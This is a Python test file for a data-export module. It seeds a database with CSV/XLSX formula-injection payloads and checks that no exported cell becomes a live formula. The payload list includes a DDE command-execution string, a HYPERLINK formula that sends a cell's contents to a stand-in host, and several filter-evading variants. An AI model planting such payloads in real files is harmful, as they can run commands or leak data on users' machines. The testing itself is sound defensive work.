"""No text from outside becomes a formula, in any text column of any table, in either CSV dialect or the workbook."""

import csv
import sqlite3
from contextlib import closing
from io import StringIO
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import Connection

import office
from reports import tables
from reports.csv_dialects import Dialect
from reports.workbook import write_workbook
from scoring_store import Norway, record
from store.db import open_database
from store.dictionary import write_dictionary
from store.survey import SurveyAnswer, SurveyQuestion
from store.views import statements

PAYLOADS = {
    "formula": "=1+1", "plus": "+47 22 33 44 55", "minus": "-2+3", "at": "@SUM(1;2)", "tab": "\t=1+1",
    "carriage-return": "\r=1+1", "line-end": "\n=1+1", "space": "  =1+1", "no-break-space": "\u00a0=1+1",
    "full-width": "＝1+1", "link": '=HYPERLINK("http://x.example.no/?"&A1;"se her")', "dde": "=cmd|' /C calc'!A0",
    "delimiter": '";=1+1;"', "comma": '",=1+1,"',
}  # fmt: skip
TRIGGERS = tuple("=+-@＝＋－＠")


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database with a row in every view that is exported, the views turned into tables so that any cell can be set."""
    norway = Norway(tmp_path_factory.mktemp("norway"))
    many = [record(f"http://x.test/{i}", f"Datasett {i} i Oslo") for i in range(6)]
    norway.harvest([*many, *(record(f"http://b.test/{i}", f"Sett {i} i Bergen", "964338531") for i in range(6))])
    norway.fails("oslo")
    norway.score()
    with norway.engine.begin() as connection:
        write_dictionary(connection)
        connection.exec_driver_sql('UPDATE municipality SET notes = \'[{"text": "x", "source": "y", "date": "z"}]\'')
        question = SurveyQuestion(id="q", ordinal=1, text_nb="Hva?", text_en="What?")
        answer = SurveyAnswer(
            municipality_number="0301", question_id="q", answered_on="2026-11-01", answer=1, evidence_url="x"
        )
        for row in (question, answer):
            connection.exec_driver_sql(
                f"INSERT INTO {row.__tablename__} ({', '.join(row.model_dump())}) VALUES"
                f" ({', '.join('?' * len(row.model_dump()))})",
                tuple(row.model_dump().values()),
            )
    norway.engine.dispose()
    path = norway.folder / "k.db"
    with closing(sqlite3.connect(path)) as connection:
        for step in (
            "CREATE TABLE held_{0} AS SELECT * FROM {0}",
            "DROP VIEW {0}",
            "ALTER TABLE held_{0} RENAME TO {0}",
        ):
            for view in statements():
                connection.execute(step.format(view))
        for view in ("latest_practice", "latest_practice_example", "uncatalogued_service", "harvest_obstacle"):
            names = [name for _, name, *_ in connection.execute(f"PRAGMA table_info({view})")]
            if connection.execute(f"SELECT count(*) FROM {view}").fetchone() == (0,):
                connection.execute(f"INSERT INTO {view} VALUES ({', '.join(repr('x') for _ in names)})")
        connection.commit()
    return path


def poisoned(template: Path, folder: Path, payload: str) -> Connection:
    """The database with this payload in every text of every table that an export reads."""
    path = folder / "k.db"
    path.write_bytes(template.read_bytes())
    with closing(sqlite3.connect(path)) as connection:
        for table in (*statements(), "criterion", "dataset_score", "data_dictionary"):
            for _, name, *_ in connection.execute(f"PRAGMA table_info({table})").fetchall():
                connection.execute(
                    f'UPDATE OR IGNORE {table} SET "{name}" = ? WHERE typeof("{name}") = \'text\'', (payload,)
                )
        connection.commit()
    return open_database(path, read_only=True).connect()


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_in_no_text_column_of_any_table_does_a_cell_begin_a_formula(
    template: Path, tmp_path: Path, payload: str
) -> None:
    with poisoned(template, tmp_path, payload) as connection:
        reached = 0
        for table in tables.TABLES:
            raw = tables.read(connection, table).rows
            assert raw, table
            assert any(payload == cell for row in raw for cell in row), table
            for dialect, delimiter in ((Dialect.excel_no, ";"), (Dialect.rfc4180, ",")):
                text = tables.to_csv(connection, table, dialect).removeprefix("\ufeff")
                read = list(csv.reader(StringIO(text, newline=""), delimiter=delimiter))[1:]
                assert [len(row) for row in read] == [len(row) for row in raw], table
                for row, was in zip(read, raw, strict=True):
                    for cell, value in zip(row, was, strict=True):
                        if isinstance(value, str):
                            reached += 1
                            assert (not cell.lstrip().startswith(TRIGGERS) and cell[:1] not in "\t\r\n") or not cell, (
                                cell
                            )
                            assert value != payload or payload in (cell, cell[1:])
                        elif isinstance(value, int | float) and not isinstance(value, bool):
                            assert not cell.startswith("'")  # a number stays one, a negative one too
        assert reached > 100
        write_workbook(connection, tmp_path / "x.xlsx", list(tables.TABLES))
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f" and cell.hyperlink is None
                assert not isinstance(cell.value, str) or not cell.value.lstrip().startswith(TRIGGERS), cell.value


@office.needed
def test_libreoffice_finds_no_formula_in_any_of_them(template: Path, tmp_path: Path) -> None:
    files: dict[str, list[Path]] = {"no": [], "rfc": [], "xlsx": []}
    for name, payload in PAYLOADS.items():
        (tmp_path / name).mkdir()
        with poisoned(template, tmp_path / name, payload) as connection:
            for kind, dialect in (("no", Dialect.excel_no), ("rfc", Dialect.rfc4180)):
                path = tmp_path / f"{kind}-{name}.csv"
                path.write_bytes(tables.to_csv(connection, "datasets", dialect).encode())
                files[kind].append(path)
            files["xlsx"].append(tmp_path / f"{name}.xlsx")
            write_workbook(connection, files["xlsx"][-1], ["datasets", "sources"])
    unguarded = tmp_path / "unguarded.csv"
    unguarded.write_text("a;b\n=1+1;x\n", encoding="utf-8")
    assert office.opened(tmp_path, [unguarded])["unguarded.csv"]["unguarded"][1][0].formula  # it does run what it may
    seen = [
        cell
        for kind, paths in files.items()
        for sheets in office.opened(tmp_path, paths, norwegian=kind == "no").values()
        for rows in sheets.values()
        for row in rows
        for cell in row
    ]
    assert [cell for cell in seen if cell.formula] == []
    assert sum("1+1" in cell.value for cell in seen) > 100  # they were there to be run
